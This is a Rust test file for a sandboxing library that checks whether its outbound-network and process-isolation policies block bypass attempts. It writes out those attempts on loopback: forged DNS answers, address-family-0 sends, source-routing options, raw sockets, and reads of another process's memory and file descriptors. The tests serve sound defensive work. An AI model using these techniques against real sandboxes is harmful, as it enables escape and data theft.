//! Issue 13, network and report kinds (2, 7, 8, 9, 11, 12): attacks that went around the
//! outbound and read-handler policies, lost events or overstated the report. Every case runs
//! under BOTH interceptors, each in its own process (re-executed test binary, with a watchdog).
//!
//! Loopback only: a forbidden host is a listener on 127.0.0.2 or higher; "resolvers" are
//! sockets bound to `127.0.0.x:53` (binding port 53 needs root, as CI has).
#![allow(missing_docs)]
// Attack code has to make raw syscalls; the library itself keeps `unsafe` in `sys`.
#![allow(unsafe_code)]

mod common;
use common::errno;

use fnshield::{Action, Details, Event, InterceptorChoice, Mechanism, Mode, PolicyKind, Shield};
use std::ffi::CString;
use std::net::{SocketAddr, TcpListener, UdpSocket};
use std::os::fd::AsRawFd;
use std::path::PathBuf;
use std::process::Command;
use std::time::{Duration, Instant};

// ---------------------------------------------------------------------------------------------
// Harness
// ---------------------------------------------------------------------------------------------

/// The interceptor this case process runs under (`FNSHIELD_IC`).
fn ic() -> Mechanism {
    match std::env::var("FNSHIELD_IC").as_deref() {
        Ok("notify") => Mechanism::SeccompNotify,
        Ok("libc_only") => Mechanism::Libc,
        _ => Mechanism::SeccompTrap,
    }
}

/// What a case child did: exit status, stdout, stderr.
struct Ran {
    status: std::process::ExitStatus,
    stdout: String,
    stderr: String,
}

/// Run `body` in a fresh process (this binary re-executed, filtered to the calling test) under
/// interceptor `which`, with a 120 s watchdog; return what it did.
fn run(name: &str, which: &str, body: fn()) -> Ran {
    let full = format!("{name}::{which}");
    if std::env::var("FNSHIELD_CASE").as_deref() == Ok(full.as_str()) {
        body();
        println!("CASE-OK");
        std::process::exit(0);
    }
    let mut cmd = Command::new(std::env::current_exe().unwrap());
    cmd.args([
        full.as_str(),
        "--exact",
        "--nocapture",
        "--include-ignored",
        "--test-threads=1",
    ])
    .env("FNSHIELD_CASE", &full)
    .env("FNSHIELD_IC", which)
    .env_remove("SHIELD_MODE");
    // Its own TMPDIR, removed once the child is gone.
    let scratch = fnshield_tests::watchdog::Scratch::new(&full);
    scratch.apply(&mut cmd);
    // The project's watchdog: a hung case (and its process group) is killed and fails with
    // its name and output, never blocks the suite.
    let out = fnshield_tests::watchdog::output_within(
        cmd,
        &format!("case {full}"),
        fnshield_tests::watchdog::bound(Duration::from_secs(120)),
    );
    drop(scratch);
    let status = out.status;
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    Ran {
        status,
        stdout,
        stderr,
    }
}

/// [`run`], and require that the case finished successfully.
fn case(name: &str, which: &str, body: fn()) -> String {
    let r = run(name, which, body);
    assert!(
        r.status.success() && r.stdout.contains("CASE-OK"),
        "case {name}::{which} failed: {:?}\nstdout:\n{}\nstderr:\n{}",
        r.status,
        r.stdout,
        r.stderr
    );
    r.stdout
}

/// One `#[test]` per configuration for a case body: the trap and notify interceptors, and
/// the libc layer alone (seccomp refused as on Lambda, `libc_only`; only with the layer
/// built). `two!` leaves `libc_only` out, for cases that test the kernel path itself.
macro_rules! both {
    ($name:ident, $body:expr) => {
        mod $name {
            #[test]
            fn trap() {
                super::case(stringify!($name), "trap", $body);
            }
            #[test]
            fn notify() {
                super::case(stringify!($name), "notify", $body);
            }
            #[test]
            fn libc_only() {
                if cfg!(feature = "libc-layer") {
                    super::case(stringify!($name), "libc_only", $body);
                }
            }
        }
    };
}

/// [`both!`] without the `libc_only` configuration.
#[allow(unused_macros)]
macro_rules! two {
    ($name:ident, $body:expr) => {
        mod $name {
            #[test]
            fn trap() {
                super::case(stringify!($name), "trap", $body);
            }
            #[test]
            fn notify() {
                super::case(stringify!($name), "notify", $body);
            }
        }
    };
}

/// Refuse seccomp as Lambda does (the `lambda` sandbox profile: prctl EPERM, NoNewPrivs unset,
/// `int 0x80` killed), in this case process, before the shield installs: the shield is then
/// the libc layer alone.
fn refuse_seccomp_like_lambda() {
    let prog = fnshield_tests::sandbox::Profile::Lambda.program();
    assert_eq!(fnshield_tests::sandbox::set_mode_filter(&prog, 0), 0);
}

fn dirs() -> (PathBuf, PathBuf) {
    let base = std::env::temp_dir().join(format!("fnshield-anet-{}", std::process::id()));
    let task = base.join("task");
    let tmp = base.join("tmp");
    std::fs::create_dir_all(&task).unwrap();
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::write(task.join("bootstrap"), b"secret code").unwrap();
    (task, tmp)
}

/// A shield under this case's interceptor with the common test settings (resolver
/// 127.0.0.1), plus `f`.
fn shield(f: impl FnOnce(fnshield::ShieldBuilder) -> fnshield::ShieldBuilder) -> Shield {
    let (task, tmp) = dirs();
    let choice = match ic() {
        Mechanism::SeccompNotify => InterceptorChoice::Notify,
        _ => InterceptorChoice::Trap,
    };
    if ic() == Mechanism::Libc {
        refuse_seccomp_like_lambda();
    }
    common::install_shield(&task, &tmp, ic(), |b| f(b.interceptor(choice)))
}

fn events(s: &Shield) -> Vec<Event> {
    common::events(s)
}

fn blocked_net(evs: &[Event], port: u16) -> bool {
    evs.iter().any(|e| {
        e.policy == PolicyKind::OutboundConnectivity
            && e.action == Action::Blocked
            && matches!(&e.details, Details::Connect { port: p, .. } if *p == port)
    })
}

fn any_event(evs: &[Event], policy: PolicyKind, action: Action) -> bool {
    evs.iter().any(|e| e.policy == policy && e.action == action)
}

fn sockaddr_in(ip: [u8; 4], port: u16, family: u16) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: family,
        sin_port: port.to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(ip),
        },
        sin_zero: [0; 8],
    }
}

fn v4(addr: SocketAddr) -> ([u8; 4], u16) {
    match addr {
        SocketAddr::V4(a) => (a.ip().octets(), a.port()),
        SocketAddr::V6(_) => panic!("v4 expected"),
    }
}

/// Raw `connect` of a fresh TCP socket to `ip:port`; 0 or the errno.
fn connect_raw(ip: [u8; 4], port: u16) -> i32 {
    let sa = sockaddr_in(ip, port, libc::AF_INET as u16);
    // SAFETY: plain socket calls with a stack sockaddr_in.
    unsafe {
        let fd = libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0);
        let r = libc::syscall(
            libc::SYS_connect,
            fd,
            &sa as *const _,
            std::mem::size_of_val(&sa) as u32,
        );
        let e = if r < 0 { errno() } else { 0 };
        libc::close(fd);
        e
    }
}

/// Raw `sendto`; (result, errno).
fn sendto_raw(fd: i32, data: &[u8], flags: i32, sa: *const u8, len: u32) -> (i64, i32) {
    // SAFETY: raw sendto with buffers that outlive the call.
    let r = unsafe {
        libc::syscall(
            libc::SYS_sendto,
            fd,
            data.as_ptr(),
            data.len(),
            flags,
            sa,
            len,
        )
    };
    (r, if r < 0 { errno() } else { 0 })
}

/// Nothing arrived at `sock` (non-blocking check after the sender returned: a datagram sent on
/// loopback is queued before `sendto` returns).
fn nothing_arrived(sock: &UdpSocket) -> bool {
    sock.set_nonblocking(true).unwrap();
    let mut b = [0u8; 64];
    matches!(sock.recv_from(&mut b), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock)
}

/// A DNS answer: `name` A `ip`, TTL 300.
fn dns_answer(name: &str, ip: [u8; 4]) -> Vec<u8> {
    let mut m = vec![0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0];
    for label in name.split('.') {
        m.push(label.len() as u8);
        m.extend_from_slice(label.as_bytes());
    }
    m.extend_from_slice(&[0, 0, 1, 0, 1]);
    m.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4]);
    m.extend_from_slice(&ip);
    m
}

/// A DNS query for `name` (type A).
fn dns_query(name: &str) -> Vec<u8> {
    let mut m = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        m.push(label.len() as u8);
        m.extend_from_slice(label.as_bytes());
    }
    m.extend_from_slice(&[0, 0, 1, 0, 1]);
    m
}

/// `trap`, `notify` or `libc` (the configurations run at once: each binds its own port-53
/// addresses).
fn per_ic<'a>(trap: &'a str, notify: &'a str, libc: &'a str) -> &'a str {
    match ic() {
        Mechanism::SeccompNotify => notify,
        Mechanism::Libc => libc,
        _ => trap,
    }
}

/// Bind a UDP socket on `ip:53` (root); panics with a clear message otherwise.
fn bind53(ip: &str) -> UdpSocket {
    let at = if ip.contains(':') {
        format!("[{ip}]:53")
    } else {
        format!("{ip}:53")
    };
    UdpSocket::bind(at)
        .unwrap_or_else(|e| panic!("bind {ip}:53 needs root (as CI has) and a free port: {e}"))
}

// ---------------------------------------------------------------------------------------------
// Kind 2: learn only from what the kernel reported, and only from resolvers on port 53.
// ---------------------------------------------------------------------------------------------

/// The input: `recvfrom(.., &sa, &len)` with `len = 0` and `sa` pre-filled as the
/// resolver 127.0.0.1:53; the answer really came from another port.
fn k2_recvfrom_addrlen_zero() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
    attacker
        .send_to(
            &dns_answer("evil.s3.amazonaws.com", ip),
            client.local_addr().unwrap(),
        )
        .unwrap();
    let mut sa = sockaddr_in([127, 0, 0, 1], 53, libc::AF_INET as u16);
    let mut len: u32 = 0;
    let mut buf = [0u8; 512];
    // SAFETY: recvfrom into stack buffers that outlive the call.
    let r = unsafe {
        libc::recvfrom(
            client.as_raw_fd(),
            buf.as_mut_ptr().cast(),
            buf.len(),
            0,
            (&mut sa as *mut libc::sockaddr_in).cast(),
            &mut len,
        )
    };
    assert!(r > 0, "recvfrom: {}", errno());
    assert_eq!(
        connect_raw(ip, port),
        libc::EPERM,
        "a name learnt from a forged source"
    );
    assert!(blocked_net(&events(&s), port));
}
both!(k2_recvfrom_addrlen_zero, super::k2_recvfrom_addrlen_zero);

/// Variant: a short `addrlen` (4): the kernel writes family and port (53, the attacker's
/// socket is bound to port 53 on a non-resolver address) and leaves the pre-filled resolver
/// address in place.
fn k2_recvfrom_short_addrlen() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    let attacker = bind53(per_ic("127.0.0.93", "127.0.0.94", "127.0.0.95"));
    attacker
        .send_to(
            &dns_answer("evil.s3.amazonaws.com", ip),
            client.local_addr().unwrap(),
        )
        .unwrap();
    let mut sa = sockaddr_in([127, 0, 0, 1], 9, libc::AF_INET as u16);
    let mut len: u32 = 4;
    let mut buf = [0u8; 512];
    // SAFETY: recvfrom into stack buffers that outlive the call.
    let r = unsafe {
        libc::recvfrom(
            client.as_raw_fd(),
            buf.as_mut_ptr().cast(),
            buf.len(),
            0,
            (&mut sa as *mut libc::sockaddr_in).cast(),
            &mut len,
        )
    };
    assert!(r > 0, "recvfrom: {}", errno());
    // What the kernel reports to the caller is unchanged by the shield.
    assert_eq!(len, 16, "the kernel reports the full address length");
    assert_eq!(u16::from_be(sa.sin_port), 53);
    assert_eq!(connect_raw(ip, port), libc::EPERM);
    assert!(blocked_net(&events(&s), port));
}
both!(k2_recvfrom_short_addrlen, super::k2_recvfrom_short_addrlen);

/// Variant: `recvmsg` with `msg_namelen = 0` and `msg_name` pre-filled as the resolver.
fn k2_recvmsg_namelen_zero() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    let attacker = UdpSocket::bind("127.0.0.1:0").unwrap();
    attacker
        .send_to(
            &dns_answer("evil.s3.amazonaws.com", ip),
            client.local_addr().unwrap(),
        )
        .unwrap();
    // SAFETY: recvmsg into stack buffers that outlive the call.
    let r = unsafe {
        let mut buf = [0u8; 512];
        let mut from = sockaddr_in([127, 0, 0, 1], 53, libc::AF_INET as u16);
        let mut iov = libc::iovec {
            iov_base: buf.as_mut_ptr().cast(),
            iov_len: buf.len(),
        };
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_name = (&mut from as *mut libc::sockaddr_in).cast();
        msg.msg_namelen = 0;
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        libc::recvmsg(client.as_raw_fd(), &mut msg, 0)
    };
    assert!(r > 0, "recvmsg: {}", errno());
    assert_eq!(connect_raw(ip, port), libc::EPERM);
    assert!(blocked_net(&events(&s), port));
}
both!(k2_recvmsg_namelen_zero, super::k2_recvmsg_namelen_zero);

/// Variant: 127.0.0.1 and ::1 are always *reachable*, but they are not resolvers unless
/// resolv.conf names them: an answer from 127.0.0.1:53 (trap case) or [::1]:53 (notify case)
/// teaches nothing when the resolver is 127.0.0.155.
fn k2_loopback_is_not_a_resolver() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let attacker = bind53(per_ic("127.0.0.1", "::1", ""));
    let s = shield(|b| b.resolv_conf("nameserver 127.0.0.155\n"));
    let client = UdpSocket::bind(per_ic("127.0.0.1:0", "[::1]:0", "")).unwrap();
    attacker
        .send_to(
            &dns_answer("evil.s3.amazonaws.com", ip),
            client.local_addr().unwrap(),
        )
        .unwrap();
    let mut buf = [0u8; 512];
    let (_, from) = client.recv_from(&mut buf).unwrap();
    assert_eq!(from.port(), 53);
    assert_eq!(connect_raw(ip, port), libc::EPERM);
    assert!(blocked_net(&events(&s), port));
}
// Not under libc alone: the case needs 127.0.0.1:53 or [::1]:53 to itself, which the trap and
// notify runs take; and libc alone learns nothing from a `recvfrom` whatever its source
// (k2_genuine_answer_still_learnt shows what it learns).
two!(
    k2_loopback_is_not_a_resolver,
    super::k2_loopback_is_not_a_resolver
);

/// Control: a genuine answer from the configured resolver on port 53 still teaches the name.
fn k2_genuine_answer_still_learnt() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let rip = per_ic("127.0.0.156", "127.0.0.157", "127.0.0.162");
    let resolver = bind53(rip);
    let _s = shield(|b| b.resolv_conf(format!("nameserver {rip}\n")));
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    resolver
        .send_to(
            &dns_answer("good.s3.amazonaws.com", ip),
            client.local_addr().unwrap(),
        )
        .unwrap();
    let mut buf = [0u8; 512];
    let (n, from) = client.recv_from(&mut buf).unwrap();
    assert_eq!(
        (n, from.port()),
        (dns_answer("good.s3.amazonaws.com", ip).len(), 53)
    );
    assert_eq!(connect_raw(ip, port), 0, "learnt from the resolver");
}
both!(
    k2_genuine_answer_still_learnt,
    super::k2_genuine_answer_still_learnt
);

// ---------------------------------------------------------------------------------------------
// Kind 7: decide on the destination the kernel will use.
// ---------------------------------------------------------------------------------------------

/// The input: a UDP `sendto` whose sockaddr has family 0 (AF_UNSPEC), which the kernel
/// treats as AF_INET.
fn k7_sendto_family_zero() {
    let target = UdpSocket::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let sa = sockaddr_in(ip, port, 0);
    let (r, e) = sendto_raw(
        sock.as_raw_fd(),
        b"leak",
        0,
        (&sa as *const libc::sockaddr_in).cast(),
        16,
    );
    assert_eq!((r, e), (-1, libc::EPERM));
    assert!(nothing_arrived(&target));
    assert!(blocked_net(&events(&s), port));
}
both!(k7_sendto_family_zero, super::k7_sendto_family_zero);

/// Variant: family 0 through `sendmsg` and through `sendmmsg` (second message).
fn k7_sendmsg_sendmmsg_family_zero() {
    let target = UdpSocket::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
    let (okip, okport) = v4(ok.local_addr().unwrap());
    let s = shield(|b| b);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    // SAFETY: sendmsg/sendmmsg with stack buffers that outlive the calls.
    unsafe {
        let mut bad = sockaddr_in(ip, port, 0);
        let mut good = sockaddr_in(okip, okport, libc::AF_INET as u16);
        let mut data = *b"leak";
        let mut iov = libc::iovec {
            iov_base: data.as_mut_ptr().cast(),
            iov_len: 4,
        };
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_name = (&mut bad as *mut libc::sockaddr_in).cast();
        msg.msg_namelen = 16;
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        let r = libc::sendmsg(sock.as_raw_fd(), &msg, 0);
        assert_eq!((r, errno()), (-1, libc::EPERM), "sendmsg family 0");
        let mut good_msg = msg;
        good_msg.msg_name = (&mut good as *mut libc::sockaddr_in).cast();
        let mut v: [libc::mmsghdr; 2] = std::mem::zeroed();
        v[0].msg_hdr = good_msg;
        v[1].msg_hdr = msg;
        let r = libc::sendmmsg(sock.as_raw_fd(), v.as_mut_ptr(), 2, 0);
        assert!(r <= 1, "the family-0 message must not be sent (r = {r})");
    }
    assert!(nothing_arrived(&target));
    assert!(blocked_net(&events(&s), port));
}
both!(
    k7_sendmsg_sendmmsg_family_zero,
    super::k7_sendmsg_sendmmsg_family_zero
);

/// Variant: `connect` with family 0 is "disconnect" for UDP (no destination): it is allowed,
/// and the socket then cannot send without an address.
fn k7_connect_unspec_disconnects() {
    let ok = UdpSocket::bind("127.0.0.1:0").unwrap();
    let _s = shield(|b| b);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.connect(ok.local_addr().unwrap()).unwrap();
    let sa = sockaddr_in([127, 0, 0, 2], 9, 0);
    // SAFETY: connect with a stack sockaddr.
    let r = unsafe {
        libc::connect(
            sock.as_raw_fd(),
            (&sa as *const libc::sockaddr_in).cast(),
            16,
        )
    };
    assert_eq!(r, 0, "AF_UNSPEC connect disconnects: {}", errno());
    assert_eq!(
        sock.send(b"x").unwrap_err().raw_os_error(),
        Some(libc::EDESTADDRREQ)
    );
}
both!(
    k7_connect_unspec_disconnects,
    super::k7_connect_unspec_disconnects
);

/// A type-2 routing header with one segment `seg`.
fn rthdr(seg: [u8; 16]) -> Vec<u8> {
    let mut h = vec![0u8, 2, 2, 1, 0, 0, 0, 0];
    h.extend_from_slice(&seg);
    h
}

const IPV6_RTHDR: i32 = 57;
const IPV6_2292RTHDR: i32 = 5;
const IP_OPTIONS: i32 = 4;
const IP_RETOPTS: i32 = 7;

/// An IPv4 loose source route option through 127.0.0.2 (padded to 8 bytes).
fn lsrr() -> Vec<u8> {
    vec![0x83, 7, 4, 127, 0, 0, 2, 0]
}

/// The input: `setsockopt(IPV6_RTHDR)` with one segment `::2`, then `sendto([::1])`:
/// the datagram would leave for ::2. Refused under outbound block, with an event.
fn k7_ipv6_rthdr_setsockopt() {
    let s = shield(|b| b);
    let sock = UdpSocket::bind("[::1]:0").unwrap();
    let mut seg = [0u8; 16];
    seg[15] = 2;
    for opt in [IPV6_RTHDR, IPV6_2292RTHDR] {
        let h = rthdr(seg);
        // SAFETY: setsockopt with a stack buffer.
        let r = unsafe {
            libc::setsockopt(
                sock.as_raw_fd(),
                libc::IPPROTO_IPV6,
                opt,
                h.as_ptr().cast(),
                h.len() as u32,
            )
        };
        assert_eq!((r, errno()), (-1, libc::EPERM), "option {opt}");
    }
    assert!(any_event(
        &events(&s),
        PolicyKind::OutboundConnectivity,
        Action::Blocked
    ));
}
both!(k7_ipv6_rthdr_setsockopt, super::k7_ipv6_rthdr_setsockopt);

/// Variant: IPv4 source routes (`IP_OPTIONS` with LSRR) are refused; options that do not
/// route (NOPs) are not.
fn k7_ip_options_source_route() {
    let _s = shield(|b| b);
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let set = |v: &[u8]| {
        // SAFETY: setsockopt with a stack buffer.
        let r = unsafe {
            libc::setsockopt(
                sock.as_raw_fd(),
                libc::IPPROTO_IP,
                IP_OPTIONS,
                v.as_ptr().cast(),
                v.len() as u32,
            )
        };
        (r, if r < 0 { errno() } else { 0 })
    };
    assert_eq!(set(&lsrr()), (-1, libc::EPERM));
    let mut ssrr = lsrr();
    ssrr[0] = 0x89;
    assert_eq!(set(&ssrr), (-1, libc::EPERM));
    // NOP, NOP, then LSRR: still a source route.
    let mut hidden = vec![1u8, 1];
    hidden.extend_from_slice(&lsrr()[..7]);
    hidden.extend_from_slice(&[0, 0, 0]);
    assert_eq!(set(&hidden), (-1, libc::EPERM));
    assert_eq!(set(&[1, 1, 1, 0]), (0, 0), "NOPs do not route");
}
both!(
    k7_ip_options_source_route,
    super::k7_ip_options_source_route
);

/// Variant: routing through control messages: `IPV6_RTHDR` on an IPv6 `sendmsg` and
/// `IP_RETOPTS` with a source route on an IPv4 `sendmsg`, to an allowed destination.
fn k7_cmsg_routing() {
    let ok6 = UdpSocket::bind("[::1]:0").unwrap();
    let ok4 = UdpSocket::bind("127.0.0.1:0").unwrap();
    let s = shield(|b| b);
    let send = |sock: &UdpSocket, to: SocketAddr, level: i32, ty: i32, data: &[u8]| {
        let (name, namelen): (Vec<u8>, u32) = match to {
            SocketAddr::V4(a) => {
                let sa = sockaddr_in(a.ip().octets(), a.port(), libc::AF_INET as u16);
                // SAFETY: plain-data struct viewed as bytes.
                let b = unsafe {
                    std::slice::from_raw_parts((&sa as *const libc::sockaddr_in).cast::<u8>(), 16)
                };
                (b.to_vec(), 16)
            }
            SocketAddr::V6(a) => {
                // SAFETY: zeroed sockaddr_in6 is valid plain data.
                let mut sa: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
                sa.sin6_family = libc::AF_INET6 as u16;
                sa.sin6_port = a.port().to_be();
                sa.sin6_addr.s6_addr = a.ip().octets();
                // SAFETY: plain-data struct viewed as bytes.
                let b = unsafe {
                    std::slice::from_raw_parts((&sa as *const libc::sockaddr_in6).cast::<u8>(), 28)
                };
                (b.to_vec(), 28)
            }
        };
        // SAFETY: CMSG macros over a correctly sized, aligned control buffer.
        unsafe {
            let space = libc::CMSG_SPACE(data.len() as u32) as usize;
            let mut ctl = vec![0u64; space.div_ceil(8)];
            let mut payload = *b"x";
            let mut iov = libc::iovec {
                iov_base: payload.as_mut_ptr().cast(),
                iov_len: 1,
            };
            let mut msg: libc::msghdr = std::mem::zeroed();
            msg.msg_name = name.as_ptr() as *mut _;
            msg.msg_namelen = namelen;
            msg.msg_iov = &mut iov;
            msg.msg_iovlen = 1;
            msg.msg_control = ctl.as_mut_ptr().cast();
            msg.msg_controllen = space;
            let c = libc::CMSG_FIRSTHDR(&msg);
            (*c).cmsg_level = level;
            (*c).cmsg_type = ty;
            (*c).cmsg_len = libc::CMSG_LEN(data.len() as u32) as usize;
            std::ptr::copy_nonoverlapping(data.as_ptr(), libc::CMSG_DATA(c), data.len());
            let r = libc::sendmsg(sock.as_raw_fd(), &msg, 0);
            (r, if r < 0 { errno() } else { 0 })
        }
    };
    let s6 = UdpSocket::bind("[::1]:0").unwrap();
    let mut seg = [0u8; 16];
    seg[15] = 2;
    assert_eq!(
        send(
            &s6,
            ok6.local_addr().unwrap(),
            libc::IPPROTO_IPV6,
            IPV6_RTHDR,
            &rthdr(seg)
        ),
        (-1, libc::EPERM)
    );
    // The same without a destination address (connected socket).
    s6.connect(ok6.local_addr().unwrap()).unwrap();
    let s4 = UdpSocket::bind("127.0.0.1:0").unwrap();
    assert_eq!(
        send(
            &s4,
            ok4.local_addr().unwrap(),
            libc::IPPROTO_IP,
            IP_RETOPTS,
            &lsrr()
        ),
        (-1, libc::EPERM)
    );
    assert!(nothing_arrived(&ok4));
    assert!(nothing_arrived(&ok6));
    assert!(any_event(
        &events(&s),
        PolicyKind::OutboundConnectivity,
        Action::Blocked
    ));
}
both!(k7_cmsg_routing, super::k7_cmsg_routing);

/// The input: packet sockets (and raw IP sockets) bypass addressing; under outbound
/// block they cannot be created.
fn k7_packet_and_raw_sockets() {
    let s = shield(|b| b);
    let eth_p_all = (libc::ETH_P_ALL as u16).to_be() as i32;
    for (family, ty, proto) in [
        (libc::AF_PACKET, libc::SOCK_RAW, eth_p_all),
        (libc::AF_PACKET, libc::SOCK_DGRAM, eth_p_all),
        (libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_UDP),
        (
            libc::AF_INET6,
            libc::SOCK_RAW | libc::SOCK_CLOEXEC,
            libc::IPPROTO_UDP,
        ),
        (libc::AF_INET, 10 /* SOCK_PACKET */, eth_p_all),
    ] {
        // SAFETY: socket(2) with integer arguments.
        let fd = unsafe { libc::socket(family, ty, proto) };
        let e = errno();
        if fd >= 0 {
            // SAFETY: closing the fd we just got.
            unsafe { libc::close(fd) };
        }
        assert_eq!(
            (fd, e),
            (-1, libc::EPERM),
            "socket({family}, {ty}, {proto})"
        );
    }
    // Ordinary sockets still work.
    UdpSocket::bind("127.0.0.1:0").unwrap();
    TcpListener::bind("127.0.0.1:0").unwrap();
    let _ = std::os::unix::net::UnixDatagram::unbound().unwrap();
    assert!(any_event(
        &events(&s),
        PolicyKind::OutboundConnectivity,
        Action::Blocked
    ));
}
both!(k7_packet_and_raw_sockets, super::k7_packet_and_raw_sockets);

/// Variant: a packet socket that existed before install cannot send to a link-layer address
/// (an unknown family fails closed).
fn k7_unknown_family_fails_closed() {
    // SAFETY: socket(2) with integer arguments (root: CAP_NET_RAW).
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_DGRAM,
            (libc::ETH_P_IP as u16).to_be() as i32,
        )
    };
    assert!(fd >= 0, "packet socket needs root: {}", errno());
    let _s = shield(|b| b);
    // SAFETY: zeroed sockaddr_ll is valid plain data.
    let mut ll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    ll.sll_family = libc::AF_PACKET as u16;
    ll.sll_protocol = (libc::ETH_P_IP as u16).to_be();
    ll.sll_ifindex = 1; // lo
    ll.sll_halen = 6;
    let (r, e) = sendto_raw(
        fd,
        &[0x45u8; 28],
        0,
        (&ll as *const libc::sockaddr_ll).cast(),
        std::mem::size_of::<libc::sockaddr_ll>() as u32,
    );
    assert_eq!((r, e), (-1, libc::EPERM));
}
both!(
    k7_unknown_family_fails_closed,
    super::k7_unknown_family_fails_closed
);

/// Variant: TCP fast open (`sendto` with `MSG_FASTOPEN` on an unconnected TCP socket)
/// connects: it is decided like a connect.
fn k7_tcp_fastopen() {
    let target = TcpListener::bind("127.0.0.2:0").unwrap();
    let (ip, port) = v4(target.local_addr().unwrap());
    let s = shield(|b| b);
    // SAFETY: socket(2) with integer arguments.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_STREAM, 0) };
    let sa = sockaddr_in(ip, port, libc::AF_INET as u16);
    let (r, e) = sendto_raw(
        fd,
        b"GET /",
        libc::MSG_FASTOPEN,
        (&sa as *const libc::sockaddr_in).cast(),
        16,
    );
    assert_eq!((r, e), (-1, libc::EPERM));
    let sa0 = sockaddr_in(ip, port, 0);
    let (r, e) = sendto_raw(
        fd,
        b"GET /",
        libc::MSG_FASTOPEN,
        (&sa0 as *const libc::sockaddr_in).cast(),
        16,
    );
    assert_ne!(r, 5, "family 0 fast open must not reach 127.0.0.2 ({e})");
    // SAFETY: closing our fd.
    unsafe { libc::close(fd) };
    assert!(blocked_net(&events(&s), port));
}
both!(k7_tcp_fastopen, super::k7_tcp_fastopen);

// ---------------------------------------------------------------------------------------------
// Kind 8: other processes' memory and descriptors.
// ---------------------------------------------------------------------------------------------

static SECRET: [u8; 16] = *b"other-proc-token";

/// A child forked before install that holds [`SECRET`] and open fds, and waits; killed when
/// the guard drops (also when an assertion fails).
struct Sibling(i32);

fn sibling() -> Sibling {
    // SAFETY: fork in a single-purpose test process; the child only detaches its output and
    // pauses.
    let pid = unsafe { libc::fork() };
    if pid == 0 {
        // SAFETY: async-signal-safe calls only in the forked child.
        unsafe {
            let null = libc::open(c"/dev/null".as_ptr(), libc::O_RDWR);
            libc::dup2(null, 1);
            libc::dup2(null, 2);
            loop {
                libc::pause();
            }
        }
    }
    assert!(pid > 0);
    Sibling(pid)
}

impl Drop for Sibling {
    fn drop(&mut self) {
        // SAFETY: signalling and reaping our own child.
        unsafe {
            libc::kill(self.0, libc::SIGKILL);
            libc::waitpid(self.0, std::ptr::null_mut(), 0);
        }
    }
}

fn vm_read(pid: i32) -> (isize, i32) {
    let mut buf = [0u8; 16];
    let local = libc::iovec {
        iov_base: buf.as_mut_ptr().cast(),
        iov_len: 16,
    };
    let remote = libc::iovec {
        iov_base: SECRET.as_ptr() as *mut _,
        iov_len: 16,
    };
    // SAFETY: process_vm_readv into a stack buffer.
    let r = unsafe { libc::process_vm_readv(pid, &local, 1, &remote, 1, 0) };
    (r, if r < 0 { errno() } else { 0 })
}

/// The input: `process_vm_readv` and `pidfd_getfd` on a same-uid process.
fn k8_other_process_memory_and_fds() {
    let sib = sibling();
    let pid = sib.0;
    let s = shield(|b| b);
    assert_eq!(vm_read(pid), (-1, libc::EPERM), "another process's memory");
    // SAFETY: pidfd_open/pidfd_getfd with integer arguments.
    let (r, e) = unsafe {
        let pidfd = libc::syscall(libc::SYS_pidfd_open, pid, 0);
        assert!(pidfd >= 0, "pidfd_open: {}", errno());
        let r = libc::syscall(libc::SYS_pidfd_getfd, pidfd, 1, 0);
        let e = errno();
        libc::close(pidfd as i32);
        (r, e)
    };
    assert_eq!((r, e), (-1, libc::EPERM), "another process's fd");
    // Our own memory stays readable (and the shield itself depends on it).
    assert_eq!(vm_read(std::process::id() as i32), (16, 0));
    drop(sib);
    let evs = events(&s);
    assert!(
        evs.iter()
            .filter(|e| e.policy == PolicyKind::ReadHandler && e.action == Action::Blocked)
            .count()
            >= 2,
        "{evs:?}"
    );
}
both!(
    k8_other_process_memory_and_fds,
    super::k8_other_process_memory_and_fds
);

/// Variant: another process's `/proc/<pid>/environ` and `/proc/<pid>/mem`, and a thread id of
